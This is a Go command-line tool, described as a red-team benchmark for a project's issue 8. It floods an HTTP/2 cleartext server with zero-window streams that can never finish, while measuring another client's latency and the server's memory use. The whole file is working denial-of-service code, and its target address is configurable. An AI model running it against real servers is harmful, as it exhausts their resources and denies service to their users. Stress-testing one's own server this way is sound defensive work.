// Command h2flood opens HTTP/2 cleartext connections (prior knowledge)
// from one loopback address to a server, each with the initial flow
// control window set to 0 and as many streams as the server allows, each
// a GET that the server can never finish sending; and, meanwhile, fetches
// a page from another address every 100 ms, on a new connection, and
// prints the latencies. It is a red-team tool for issue 8, not part of
// samizdat.
//
//	go run ./bench/cmd/h2flood -addr 127.0.0.1:PORT -conns 256 -streams 250 -path / -for 20s
package main

import (
	"bufio"
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr := flag.String("addr", "", "server address")
	from := flag.String("from", "127.0.0.2", "attacker's source address")
	conns := flag.Int("conns", 256, "connections")
	streams := flag.Int("streams", 250, "streams per connection (at most what the server allows)")
	path := flag.String("path", "/", "path to ask for")
	dur := flag.Duration("for", 20*time.Second, "length of the attack")
	pid := flag.Int("pid", 0, "server's pid, for its RSS")
	flag.Parse()
	ctx, cancel := context.WithTimeout(context.Background(), *dur)
	defer cancel()
	var opened, headers atomic.Int64
	var wg sync.WaitGroup
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(*from)}}
	for range *conns {
		wg.Go(func() {
			c, err := d.DialContext(ctx, "tcp", *addr)
			if err != nil {
				return
			}
			defer c.Close()
			stop := context.AfterFunc(ctx, func() { c.Close() })
			defer stop()
			opened.Add(1)
			bw := bufio.NewWriter(c)
			bw.WriteString(http2.ClientPreface)
			fr := http2.NewFramer(bw, c)
			fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}, http2.Setting{ID: http2.SettingEnablePush, Val: 0})
			var hb bytes.Buffer
			enc := hpack.NewEncoder(&hb)
			for i := range *streams {
				hb.Reset()
				enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
				enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: "http"})
				enc.WriteField(hpack.HeaderField{Name: ":authority", Value: *addr})
				enc.WriteField(hpack.HeaderField{Name: ":path", Value: *path})
				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true})
			}
			bw.Flush()
			// Read (and acknowledge settings), never open the window.
			for {
				f, err := fr.ReadFrame()
				if err != nil {
					return
				}
				switch f := f.(type) {
				case *http2.SettingsFrame:
					if !f.IsAck() {
						fr.WriteSettingsAck()
						bw.Flush()
					}
				case *http2.HeadersFrame:
					headers.Add(1)
				}
			}
		})
	}
	// A reader from another address.
	var lat []time.Duration
	var errs int
	rd := &http.Client{Timeout: 4 * time.Second, Transport: &http.Transport{DisableKeepAlives: true,
		DialContext: (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.3")}}).DialContext}}
	var peak int64
	t := time.NewTicker(100 * time.Millisecond)
	for ctx.Err() == nil {
		<-t.C
		start := time.Now()
		r, err := rd.Get("http://" + *addr + *path)
		if err == nil {
			io.Copy(io.Discard, r.Body)
			r.Body.Close()
			if r.StatusCode != 200 {
				err = fmt.Errorf("status %d", r.StatusCode)
			}
		}
		if err != nil {
			errs++
		} else {
			lat = append(lat, time.Since(start))
		}
		if *pid > 0 {
			peak = max(peak, rss(*pid))
		}
	}
	cancel()
	wg.Wait()
	sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
	p := func(q float64) time.Duration {
		if len(lat) == 0 {
			return 0
		}
		return lat[int(q*float64(len(lat)-1))]
	}
	fmt.Printf("attacker conns %d, response headers seen %d; reader: %d ok, %d failed, p50 %v p99 %v; server RSS peak %.1f MB (VmHWM %.1f MB)\n",
		opened.Load(), headers.Load(), len(lat), errs, p(0.5), p(0.99), float64(peak)/1e6, float64(hwm(*pid))/1e6)
}

func field(pid int, name string) int64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, l := range bytes.Split(b, []byte("\n")) {
		var v int64
		if n, _ := fmt.Sscanf(string(l), name+": %d kB", &v); n == 1 {
			return v << 10
		}
	}
	return 0
}

func rss(pid int) int64 { return field(pid, "VmRSS") }
func hwm(pid int) int64 { return field(pid, "VmHWM") }
